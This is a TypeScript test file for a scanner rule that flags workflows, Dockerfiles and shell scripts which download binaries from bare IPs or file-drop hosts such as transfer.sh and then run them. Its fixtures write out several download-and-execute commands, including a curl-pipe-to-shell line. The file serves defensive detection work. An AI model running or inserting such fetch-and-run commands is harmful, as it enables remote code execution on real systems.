import { describe, expect, it } from 'vitest';
import { extractDockerfile } from '../../../src/ecosystems/dockerfile/extract.js';
import { extractWorkflow } from '../../../src/ecosystems/github-actions/extract.js';
import { suspiciousDownloadRun } from '../../../src/ecosystems/shell/download-run.js';
import { scriptDownloadFindings } from '../../../src/ecosystems/shell/script-downloads.js';
import { makeFile } from '../../support/snapshot-factory.js';

const hit = (...lines: string[]) => suspiciousDownloadRun(lines);

describe('downloaded-binary-run', () => {
  it('finds a download from a bare public IP, a host named after one, or a paste, tunnel or file-drop host, that is made executable or run', () => {
    expect(hit('curl -sLo /tmp/h https://185.199.1.2/tools/h && chmod +x /tmp/h && /tmp/h warm')).toEqual({ index: 0, source: 'a bare IP address (https://185.199.1.2)', plainHttp: false });
    expect(hit('wget -q https://transfer.sh/abc/helper -O h', './h --init')?.source).toBe('transfer.sh');
    expect(hit('curl -fsSL -o agent https://45-139-104-115.sslip.io/agent', 'sh agent')?.index).toBe(0);
    expect(hit('curl -sO https://0x0.st/Hx.sh', 'bash Hx.sh')?.source).toBe('0x0.st');
    expect(hit('Invoke-WebRequest https://file.io/x -OutFile u.exe; chmod 755 u.exe')?.source).toBe('file.io');
    expect(suspiciousDownloadRun(['ADD --chmod=755 https://185.199.1.2/h /usr/local/bin/h'], { dockerfile: true })?.index).toBe(0);
    expect(suspiciousDownloadRun(['ADD https://185.199.1.2/h /usr/local/bin/h', 'RUN /usr/local/bin/h --init'], { dockerfile: true })?.index).toBe(0);
  });

  it('finds a file fetched over plain HTTP from a named public host and run (medium where it is reported: anyone on the path can swap it)', () => {
    expect(hit('wget http://downloads.example.org/tools/helper-1.2 -O helper && chmod +x helper')).toEqual({ index: 0, source: 'plain HTTP (downloads.example.org)', plainHttp: true });
    expect(hit('curl -sLo /tmp/h http://10.0.0.5/h && chmod +x /tmp/h')).toBeNull();
    expect(hit('curl -sLo /tmp/h http://localhost:8080/h && chmod +x /tmp/h')).toBeNull();
  });

  it('leaves alone: release pages and registries, private addresses, data read not run, uploads, and pipes (curl-pipe-shell’s)', () => {
    expect(hit('curl -sLo /usr/local/bin/kind https://github.com/kubernetes-sigs/kind/releases/download/v0.24.0/kind-linux-amd64 && chmod +x /usr/local/bin/kind')).toBeNull();
    expect(hit('wget http://192.168.1.10/fw.bin -O fw.bin && chmod +x flash && ./flash fw.bin')).toBeNull();
    expect(hit('curl -sLo /tmp/data.json https://185.199.1.2/data.json && jq . /tmp/data.json')).toBeNull();
    expect(hit('curl --upload-file ./build.log https://transfer.sh/build.log')).toBeNull();
    expect(hit('curl -s https://185.199.1.2/i.sh | sh')).toBeNull();
    expect(suspiciousDownloadRun(['ADD https://github.com/krallin/tini/releases/download/v0.19.0/tini-static /tini', 'RUN chmod +x /tini'], { dockerfile: true })).toBeNull();
  });

  it('is reported by workflows, Dockerfiles and scripts, high, at the download', () => {
    const workflow = ['on: push', 'jobs:', '  build:', '    runs-on: ubuntu-latest', '    steps:', '      - run: |', '          curl -sLo /tmp/c https://185.199.1.2/c', '          chmod +x /tmp/c && /tmp/c', ''].join('\n');
    expect(extractWorkflow(workflow, '.github/workflows/ci.yml').findings?.filter((f) => f.id === 'downloaded-binary-run').map((f) => [f.severity, f.line])).toEqual([['high', 7]]);
    const dockerfile = 'FROM alpine:3.20\nRUN apk add curl\nADD https://transfer.sh/a/h /usr/local/bin/h\nRUN chmod +x /usr/local/bin/h\n';
    expect(extractDockerfile(dockerfile, 'Dockerfile').findings?.filter((f) => f.id === 'downloaded-binary-run').map((f) => [f.severity, f.line])).toEqual([['high', 3]]);
    const patch = ['@@ -1,1 +1,3 @@', ' #!/bin/sh', '+curl -sLo /tmp/h https://185.199.1.2/h', '+chmod +x /tmp/h && /tmp/h'].join('\n');
    expect(scriptDownloadFindings(makeFile('scripts/bootstrap.sh', { patch })).filter((f) => f.id === 'downloaded-binary-run').map((f) => [f.severity, f.line])).toEqual([['high', 2]]);
    const plain = ['@@ -1,1 +1,3 @@', ' #!/bin/sh', '+curl -sLo /tmp/h http://downloads.example.org/h', '+chmod +x /tmp/h && /tmp/h'].join('\n');
    expect(scriptDownloadFindings(makeFile('scripts/bootstrap.sh', { patch: plain })).filter((f) => f.id === 'downloaded-binary-run').map((f) => [f.severity, f.line])).toEqual([['medium', 2]]);
    // A download the base already had, moved within the script, is not new.
    const moved = ['@@ -1,3 +1,3 @@', ' #!/bin/sh', '-curl -sLo /tmp/h https://185.199.1.2/h', '+curl -sLo /tmp/h https://185.199.1.2/h', ' chmod +x /tmp/h && /tmp/h'].join('\n');
    expect(scriptDownloadFindings(makeFile('scripts/bootstrap.sh', { patch: moved })).map((f) => f.id)).not.toContain('downloaded-binary-run');
  });
});
